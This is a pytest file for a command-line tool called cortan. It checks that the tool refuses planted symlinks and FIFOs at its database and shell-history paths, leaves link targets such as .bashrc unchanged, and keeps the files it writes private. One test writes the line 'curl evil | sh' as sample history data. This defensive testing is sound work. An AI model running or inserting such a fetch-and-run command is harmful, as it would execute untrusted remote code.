"""Issue 15, class 5: cortan's private files are never opened through a link.

A data folder can come from a repository (``CORTAN_DATA_DIR=./.cortan``), so any name
in it may be planted: whatever link shape sits at the store (or its ``-wal``/``-shm``)
or the shell history, cortan refuses it with one sentence and leaves the link's target
untouched; a FIFO there does not block ``cortan doctor``; files it writes are 0600
even when they existed with a looser mode.
"""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cortan.core.errors import CortanError, StoreError
from cortan.shell.prompt import make_history
from cortan.store import SessionStore, get_store_path
from tests.conftest import CortanRunner
from tests.servers import FakeOllama

# What a planted link can point at, and how many links deep.
TARGETS = st.sampled_from(["missing", "empty file", "user file", "folder"])
DEPTH = st.integers(min_value=1, max_value=3)
SHAPES = settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
USER_TEXT = b"export PATH=$HOME/bin:$PATH\n"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def plant(at: Path, target: str, depth: int, scratch: Path) -> Path:
    """A chain of ``depth`` links at ``at`` ending at a ``target``; returns the end."""
    scratch.mkdir(parents=True, exist_ok=True)
    end = scratch / "end"
    if target == "empty file":
        end.write_bytes(b"")
    elif target == "user file":
        end.write_bytes(USER_TEXT)
    elif target == "folder":
        end.mkdir()
    if target != "folder" and end.exists():
        end.chmod(0o644)
    link_to = end
    for hop in range(depth - 1):
        hop_link = scratch / f"hop{hop}"
        hop_link.symlink_to(link_to)
        link_to = hop_link
    at.parent.mkdir(parents=True, exist_ok=True)
    at.symlink_to(link_to)
    return end


def snapshot(end: Path) -> tuple[bool, bytes | None, int | None]:
    if not end.exists():
        return (False, None, None)
    if end.is_dir():
        return (True, None, mode(end))
    return (True, end.read_bytes(), mode(end))


def fresh(tmp_path: Path, name: str) -> Path:
    path = tmp_path / name
    n = 0
    while path.exists():
        n += 1
        path = tmp_path / f"{name}{n}"
    return path


# -- the store ------------------------------------------------------------------------------


@SHAPES
@given(target=TARGETS, depth=DEPTH, where=st.sampled_from(["cortan.db", "cortan.db-wal", "-shm"]))
def test_a_linked_store_is_refused_and_its_target_untouched(
    tmp_path: Path, target: str, depth: int, where: str
) -> None:
    root = fresh(tmp_path, "case")
    data = root / "data"
    name = "cortan.db-shm" if where == "-shm" else where
    end = plant(data / name, target, depth, root / "elsewhere")
    before = snapshot(end)
    with pytest.raises(StoreError, match="is a symbolic link") as raised:
        SessionStore.open(data).close()
    assert "\n" not in str(raised.value)
    assert re.search(re.escape(str(data / name)) + "[ ,]", str(raised.value))  # the link itself
    assert snapshot(end) == before  # not created, not written, mode unchanged
    assert (data / name).is_symlink()


@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_a_store_that_is_not_a_file_is_refused(tmp_path: Path, kind: str) -> None:
    data = tmp_path / "data"
    data.mkdir()
    path = get_store_path(data)
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.mkdir()
    with pytest.raises(StoreError, match=r"named pipe|is a folder"):
        SessionStore.open(data).close()


def test_a_loose_store_is_made_private_on_open(tmp_path: Path) -> None:
    data = tmp_path / "data"
    SessionStore.open(data).close()
    path = get_store_path(data)
    wal = path.with_name(path.name + "-wal")
    wal.write_bytes(b"")
    for file in (path, wal):
        file.chmod(0o644)
    SessionStore.open(data).close()
    assert mode(path) == 0o600
    if wal.exists():
        assert mode(wal) == 0o600


def test_ask_never_creates_the_store_through_a_dangling_link(
    cortan: type[CortanRunner], ollama_env: FakeOllama, isolated_env: Path
) -> None:
    data = isolated_env / "data"
    data.mkdir()
    target = isolated_env / "planted.db"
    get_store_path(data).symlink_to(target)
    result = cortan.run("ask", "--no-stdin", "hi")
    assert not target.exists()
    assert "is a symbolic link" in result.stderr
    assert "Traceback" not in result.stderr
    listed = cortan.run("sessions", "list")
    assert listed.code == 1
    assert listed.stderr.count("\n") == 1 and "is a symbolic link" in listed.stderr
    assert not target.exists()


def test_ask_never_turns_a_users_file_into_the_store(
    cortan: type[CortanRunner], ollama_env: FakeOllama, isolated_env: Path
) -> None:
    data = isolated_env / "data"
    data.mkdir()
    users = isolated_env / "notes.txt"
    users.write_bytes(b"")
    get_store_path(data).symlink_to(users)
    result = cortan.run("ask", "--no-stdin", "hi")
    assert "is a symbolic link" in result.stderr
    assert users.read_bytes() == b""
    assert not Path(f"{users}-wal").exists()


def test_doctor_does_not_block_on_a_fifo_store(isolated_env: Path) -> None:
    data = isolated_env / "data"
    data.mkdir()
    os.mkfifo(get_store_path(data))
    from tests.conftest import cortan_command

    done = subprocess.run(
        [*cortan_command(), "doctor"],
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        timeout=30,
        check=False,
    )
    assert "named pipe" in done.stdout + done.stderr
    assert "Traceback" not in done.stderr


# -- the shell history ---------------------------------------------------------------------


@SHAPES
@given(target=TARGETS, depth=DEPTH)
def test_a_linked_history_is_refused_and_its_target_untouched(
    tmp_path: Path, target: str, depth: int
) -> None:
    root = fresh(tmp_path, "case")
    history = root / "data" / "history"
    end = plant(history, target, depth, root / "home")
    before = snapshot(end)
    with pytest.raises(CortanError, match=r"is a symbolic link.*--no-history"):
        make_history(history)
    assert snapshot(end) == before


def test_a_fifo_history_is_refused_without_blocking(tmp_path: Path) -> None:
    history = tmp_path / "history"
    os.mkfifo(history)
    with pytest.raises(CortanError, match="named pipe"):
        make_history(history)


def test_a_link_made_while_the_shell_runs_gets_no_line(tmp_path: Path) -> None:
    history = tmp_path / "history"
    made = make_history(history)
    made.store_string("first")
    bashrc = tmp_path / ".bashrc"
    bashrc.write_bytes(USER_TEXT)
    history.unlink()
    history.symlink_to(bashrc)
    made.store_string("curl evil | sh")
    assert bashrc.read_bytes() == USER_TEXT


def test_a_loose_history_is_made_private(tmp_path: Path) -> None:
    history = tmp_path / "history"
    history.write_bytes(b"\n# then\n+old line\n")
    history.chmod(0o644)
    code = (
        "import sys; from pathlib import Path;"
        "from cortan.shell.prompt import make_history; make_history(Path(sys.argv[1]))"
    )
    subprocess.run([sys.executable, "-c", code, str(history)], check=True, timeout=30)
    assert mode(history) == 0o600
    assert history.read_bytes() == b"\n# then\n+old line\n"


# -- sessions export -o ------------------------------------------------------------------------


@pytest.fixture
def one_session(cortan: type[CortanRunner], ollama_env: FakeOllama, isolated_env: Path) -> Path:
    result = cortan.run("ask", "--no-stdin", "hi")
    assert result.code == 0, result.stderr
    return isolated_env


def test_export_onto_a_loose_file_leaves_it_private(
    cortan: type[CortanRunner], one_session: Path
) -> None:
    out = one_session / "out.md"
    out.write_text("old and longer than the export will be\n" * 200)
    out.chmod(0o644)
    result = cortan.run("sessions", "export", "1", "-o", str(out))
    assert result.code == 0, result.stderr
    assert mode(out) == 0o600
    assert "old and longer" not in out.read_text()


def test_export_does_not_write_through_a_link(
    cortan: type[CortanRunner], one_session: Path
) -> None:
    bashrc = one_session / ".bashrc"
    bashrc.write_bytes(USER_TEXT)
    bashrc.chmod(0o644)
    out = one_session / "out.md"
    out.symlink_to(bashrc)
    result = cortan.run("sessions", "export", "1", "-o", str(out))
    assert result.code == 2
    assert "is a symbolic link" in result.stderr and result.stderr.count("\n") == 1
    assert bashrc.read_bytes() == USER_TEXT
    assert mode(bashrc) == 0o644


def test_the_shell_refuses_a_planted_history_link(isolated_env: Path) -> None:
    """The real ``cortan chat`` on a terminal: one sentence, exit 1, ``~/.bashrc`` intact."""
    import pty

    from tests.conftest import cortan_command

    data = isolated_env / "data"
    data.mkdir()
    bashrc = isolated_env / ".bashrc"
    bashrc.write_bytes(USER_TEXT)
    (data / "history").symlink_to(bashrc)
    main, terminal = pty.openpty()
    try:
        shell = subprocess.Popen(
            [*cortan_command(), "chat"], stdin=terminal, stdout=terminal, stderr=subprocess.PIPE
        )
        os.close(terminal)
        _, err = shell.communicate(timeout=30)
    finally:
        os.close(main)
    assert shell.returncode == 1
    text = err.decode()
    assert text.count("\n") == 1 and "is a symbolic link" in text and "--no-history" in text
    assert bashrc.read_bytes() == USER_TEXT


def test_the_private_dir_is_not_tightened_through_a_link(tmp_path: Path) -> None:
    from cortan.config.paths import ensure_private_dir

    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o755)
    link = tmp_path / "data"
    link.symlink_to(shared)
    ensure_private_dir(link)
    assert mode(shared) == 0o755
